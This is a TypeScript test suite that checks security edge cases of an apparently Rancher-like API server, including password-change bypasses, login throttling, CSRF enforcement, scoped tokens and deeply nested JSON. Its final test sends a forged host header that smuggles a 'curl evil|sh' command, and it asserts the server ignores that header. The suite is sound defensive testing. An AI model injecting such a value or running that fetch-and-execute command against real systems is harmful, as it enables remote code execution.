import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { ADMIN_PASSWORD, startTestServer, type TestServer } from '../testing/test-server.js';
import { until } from '../testing/wait.js';

const LOGIN = '/v3-public/localProviders/local?action=login';

describe('security edges', () => {
  let srv: TestServer;
  before(async () => {
    srv = await startTestServer();
  });
  after(() => srv.close());

  test('the forced password change cannot be side-stepped with _method or action=remove', async () => {
    const first = (await srv.request('POST', LOGIN, { body: { username: 'admin', password: 'admin' } })).json.token as string;
    const me = (await srv.request('GET', '/v3/users?me=true', { token: first })).json.data[0];
    const put = await srv.request('POST', `/v3/users/${me.id}?_method=PUT`, { token: first, body: { mustChangePassword: false } });
    assert.equal(put.status, 403, put.text);
    const viaAction = await srv.request('POST', `/v3/users/${me.id}?action=changepassword&_method=PUT`, { token: first, body: { mustChangePassword: false } });
    assert.equal(viaAction.status, 403, viaAction.text);
    const remove = await srv.request('POST', `/v3/tokens/${first.split(':')[0]}?action=remove`, { token: first });
    assert.equal(remove.status, 403);
    assert.equal((await srv.request('GET', '/v3/users?me=true', { token: first })).json.data[0].mustChangePassword, true);
  });

  test('changing the password ends every other session of the user', async () => {
    const other = (await srv.request('POST', LOGIN, { body: { username: 'admin', password: 'admin' } })).json.token as string;
    const mine = (await srv.request('POST', LOGIN, { body: { username: 'admin', password: 'admin' } })).json.token as string;
    const change = await srv.request('POST', '/v3/users?action=changepassword', { token: mine, body: { currentPassword: 'admin', newPassword: ADMIN_PASSWORD } });
    assert.equal(change.status, 200, change.text);
    assert.equal((await srv.request('GET', '/v3/settings', { token: mine })).status, 200, 'the changing session goes on');
    assert.equal((await srv.request('GET', '/v3/settings', { token: other })).status, 401, 'others end');
  });

  test('/v3 and /v3/schemas need a caller', async () => {
    assert.equal((await srv.request('GET', '/v3')).status, 401);
    assert.equal((await srv.request('GET', '/v3/schemas')).status, 401);
    assert.equal((await srv.request('GET', '/v3-public/authProviders')).status, 200);
  });

  test('write-only fields stay hidden at any depth', async () => {
    const token = await srv.login('admin', ADMIN_PASSWORD);
    const created = await srv.request('POST', '/v3/clusters', { token, body: { name: 'imported-kc', importedConfig: { kubeConfig: 'apiVersion: v1\nsecret: yes' } } });
    assert.equal(created.status, 201, created.text);
    assert.equal(created.json.importedConfig.kubeConfig, undefined);
    const listed = await srv.request('GET', '/v3/clusters?name=imported-kc', { token });
    assert.ok(!listed.text.includes('secret: yes'));
  });

  test('a server-url whose host no certificate can carry is refused', async () => {
    const token = await srv.login('admin', ADMIN_PASSWORD);
    for (const value of ['https://a..b', 'https://under_score.example', 'ftp://x.example', 'https://x.example/path']) {
      const res = await srv.request('PUT', '/v3/settings/server-url', { token, body: { value } });
      assert.equal(res.status, 422, `${value}: ${res.text}`);
    }
  });

  test('parallel password guesses are throttled before they are checked', async () => {
    const token = await srv.login('admin', ADMIN_PASSWORD);
    await srv.request('POST', '/v3/users', { token, body: { username: 'victim', password: 'victim-password-1' } });
    const results = await Promise.all(
      Array.from({ length: 20 }, (_, i) => srv.request('POST', LOGIN, { body: { username: 'victim', password: `guess-${i}` } })),
    );
    const verified = results.filter((r) => r.status === 401).length;
    assert.ok(verified <= 5, `${verified} guesses were checked`);
    assert.ok(results.every((r) => r.status === 401 || r.status === 429));
  });

  test('cluster-scoped tokens work only for their cluster, and go with it', async () => {
    const token = await srv.login('admin', ADMIN_PASSWORD);
    const bad = await srv.request('POST', '/v3/tokens', { token, body: { clusterId: 'c-nope1' } });
    assert.equal(bad.status, 422);
    assert.equal(bad.json.code, 'InvalidReference');
    const cluster = (await srv.request('POST', '/v3/clusters', { token, body: { name: 'scoped' } })).json;
    const scoped = await srv.request('POST', '/v3/tokens', { token, body: { clusterId: cluster.id } });
    assert.equal(scoped.status, 201, scoped.text);
    const use = await srv.request('GET', '/v3/clusters', { token: scoped.json.token });
    assert.equal(use.status, 401);
    assert.match(use.json.message, /only for the Kubernetes API of cluster/);
    await srv.request('DELETE', `/v3/clusters/${cluster.id}`, { token });
    await until('scoped token removed', async () => ((await srv.server.store.get('token', scoped.json.id)) ? undefined : true));
  });

  test('absurd lifetimes and nesting are refused, not a 500', async () => {
    const token = await srv.login('admin', ADMIN_PASSWORD);
    const ttl = await srv.request('POST', '/v3/tokens', { token, body: { ttl: 9e15 } });
    assert.equal(ttl.status, 422);
    assert.equal(ttl.json.code, 'MaxLimitExceeded');
    const deep = `${'['.repeat(5000)}"x"${']'.repeat(5000)}`;
    const nested = await srv.request('POST', '/v3/clusters', { token, rawBody: `{"name":"deep","rancherKubernetesEngineConfig":{"services":${deep}}}` });
    assert.equal(nested.status, 422, nested.text.slice(0, 200));
    const open = await srv.request('POST', '/v3/clusters', { token, rawBody: `{"name":"deep2","rancherKubernetesEngineConfig":{"whatever":${deep}}}` });
    assert.equal(open.status, 422, open.text.slice(0, 200));
  });

  test('cookie sessions must echo the CSRF cookie on writes', async () => {
    const res = await srv.request('POST', LOGIN, { body: { username: 'admin', password: ADMIN_PASSWORD, responseType: 'cookie' } });
    const cookies = res.headers['set-cookie'] as string[];
    const pairs = cookies.map((c) => c.split(';')[0] ?? '');
    const csrf = (pairs.find((p) => p.startsWith('CSRF=')) ?? '').slice(5);
    assert.match(csrf, /^[0-9a-f]{16}$/);
    const cookie = pairs.join('; ');
    const without = await srv.request('POST', '/v3/clusters', { headers: { cookie }, body: { name: 'csrf-less' } });
    assert.equal(without.status, 422);
    assert.equal(without.json.code, 'InvalidCSRFToken');
    const withHeader = await srv.request('POST', '/v3/clusters', { headers: { cookie, 'x-api-csrf': csrf }, body: { name: 'csrf-ok' } });
    assert.equal(withHeader.status, 201, withHeader.text);
    assert.equal((await srv.request('GET', '/v3/clusters', { headers: { cookie } })).status, 200, 'reads need no CSRF header');
  });

  test('forged host headers do not reach links or agent commands', async () => {
    const token = await srv.login('admin', ADMIN_PASSWORD);
    const res = await srv.request('GET', '/v3/clusterregistrationtokens', { token, headers: { 'x-forwarded-host': 'evil.example;curl evil|sh;#' } });
    assert.ok(!res.text.includes('evil'), 'the malformed header was ignored');
  });
});
